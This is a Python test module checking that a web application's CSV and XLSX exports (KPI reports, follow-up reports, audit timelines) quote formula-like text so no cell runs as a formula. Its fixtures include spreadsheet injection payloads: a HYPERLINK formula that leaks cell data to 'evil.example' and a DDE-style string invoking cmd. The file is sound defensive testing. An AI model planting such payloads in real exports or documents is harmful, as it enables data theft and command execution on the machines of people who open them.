"""Spreadsheet exports never carry a live formula (issue 14 §4): text typed in by people (a
survey suggestion, a carrier or customer name, a score key, a key's name on the timeline) that
starts with `=`, `+`, `-`, `@`, tab or CR is written quoted, as text, in every CSV and XLSX the
API and the console offer; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.orm import Session

from console.audit.view import as_csv
from db.orders.models import Order
from kpis.cells import FORMULA_STARTS, inert
from kpis.export import to_csv, to_xlsx
from tests.support import kpi_fixtures as fx
from tests.support.api_harness import Api
from tests.support.console_harness import sign_in
from workflows.order.types import TimelineEntry

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CARRIER = "+SF-EXPRESS"
CUSTOMER_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
SCORE_KEY = "-2+3"
ACTOR = "\t=1+1"
SOURCE = "@SUM(A1:A9)"
ORDER_ID = "O-EVIL"

# The exports read the seeded month and write nothing; formulas are no SQL matter: one
# stack per module, on SQLite.
pytestmark = [pytest.mark.shared_stack, pytest.mark.one_engine]


# -- the rule ----------------------------------------------------------------------------------

@pytest.mark.parametrize("text", [LEAK, CARRIER, CUSTOMER_NAME, SCORE_KEY, ACTOR, "\r=1",
                                  "-", "@"])
def test_formula_like_text_is_quoted(text: str) -> None:
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", ["SF", "回访", "", " =1", "1-2", -5, -0.25, 0, 3, None, True])
def test_everything_else_is_left_as_it_is(value: Any) -> None:
    assert inert(value) == value


def test_xlsx_cells_are_text_and_negative_numbers_stay_numbers() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(["a", "b"], [{"a": LEAK, "b": -5}], "t")))
    sheet = book.active
    assert sheet is not None
    text, number = sheet["A2"], sheet["B2"]
    assert (text.data_type, text.value) == ("s", "'" + LEAK)
    assert (number.data_type, number.value) == ("n", -5)


def test_csv_cells_are_quoted_text() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(["a", "b"], [{"a": LEAK, "b": -5}])
                                       .decode("utf-8-sig"))))
    assert rows == [["a", "b"], ["'" + LEAK, "-5"]]


def test_audit_csv_cells_are_quoted_text() -> None:
    rows = [{"event_id": "e1", "type": "note", "actor": ACTOR, "source": LEAK,
             "occurred_at": "2026-11-02T01:00:00+00:00", "recorded_at": "x", "data": {"a": 1}}]
    fields = ("event_id", "type", "actor", "source", "occurred_at", "recorded_at", "data")
    got = list(csv.DictReader(io.StringIO(as_csv(rows, fields))))
    assert (got[0]["actor"], got[0]["source"], got[0]["data"]) == \
        ("'" + ACTOR, "'" + LEAK, '{"a": 1}')


# -- every export, over HTTP -------------------------------------------------------------------

def seed(session: Session) -> None:
    """November of tests/support/kpi_fixtures.py plus one order whose every typed-in text is a
    formula: carrier, customer name, a score key, the suggestion, a timeline actor."""
    fx.november(session)
    note = TimelineEntry(event_id="n-1", type="note", occurred_at=fx.t("11-21T00:00"),
                         recorded_at=fx.t("11-21T00:00"), actor=ACTOR, source=SOURCE,
                         data={"text": LEAK})
    fx.order(session, ORDER_ID, "C-A", "11-24T00:00", {
        "received": "11-20T00:00", "confirmed": "11-20T01:00", "picked": "11-20T02:00",
        "shipped": "11-21T00:00", "in_transit": "11-21T00:00", "delivered": "11-22T00:00",
        "followed_up": "11-23T00:00"}, carrier=CARRIER, on_time=True, in_full=True,
        answer=fx.Answer("11-23T00:00", {SCORE_KEY: 1, "arrival": 2}, suggestions=LEAK,
                         problems=("suggestion",)), extra_entries=[note])
    # The report names a customer as their newest order does: every C-A order, then.
    session.execute(update(Order).where(Order.customer_id == "C-A").values(
        customer={"id": "C-A", "name": CUSTOMER_NAME, "tier": "standard"}))


@pytest.fixture(scope="module")
def stack_options() -> dict[str, Any]:
    return {"seed": seed, "worker": False}


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(body: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_inert(response: Any, *formulas: str) -> None:
    """No cell of the file would run, and each formula is in it, quoted, as text."""
    assert response.status_code == 200, response.text
    if "spreadsheetml" in response.headers["content-type"]:
        cells = _xlsx_cells(response.content)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        texts = [c.value for c in cells if c.data_type == "s"]
        for formula in formulas:
            found = [c for c in cells if c.value == "'" + formula]
            assert found and all(c.data_type == "s" for c in found), formula
    else:
        texts = _csv_cells(response.content)
    assert not [t for t in texts if isinstance(t, str) and t.startswith(FORMULA_STARTS)]
    for formula in formulas:
        assert "'" + formula in texts, (formula, texts)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_api_kpi_export_by_carrier(api: Api, fmt: str) -> None:
    got = await api.http.get("/v1/kpis", headers=api.auth("auditor"), params={
        "from": "2026-11-01", "to": "2026-11-30", "as_of": "2026-12-10T00:00:00Z",
        "group_by": "carrier", "format": fmt})
    assert_inert(got, CARRIER, SCORE_KEY)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_api_follow_up_report_export(api: Api, fmt: str) -> None:
    got = await api.http.get("/v1/reports/follow-up-monthly", headers=api.auth("auditor"),
                             params={"month": "2026-11", "as_of": "2026-12-10T00:00:00Z",
                                     "format": fmt})
    assert_inert(got, LEAK, SCORE_KEY)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_console_kpi_export(api: Api, fmt: str) -> None:
    await sign_in(api.http, api.keys["auditor"])
    got = await api.http.get(f"/console/kpis.{fmt}",
                             params={"from": "2026-11-01", "to": "2026-11-30"})
    assert_inert(got, SCORE_KEY)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_console_follow_up_report_export(api: Api, fmt: str) -> None:
    await sign_in(api.http, api.keys["auditor"])
    got = await api.http.get(f"/console/reports/follow-up-monthly.{fmt}",
                             params={"month": "2026-11", "as_of": "2026-12-10T00:00:00Z"})
    assert_inert(got, LEAK, SCORE_KEY, CUSTOMER_NAME)


async def test_console_audit_timeline_export(api: Api) -> None:
    await sign_in(api.http, api.keys["auditor"])
    got = await api.http.get(f"/console/audit/orders/{ORDER_ID}/timeline.csv")
    assert_inert(got, ACTOR, SOURCE)
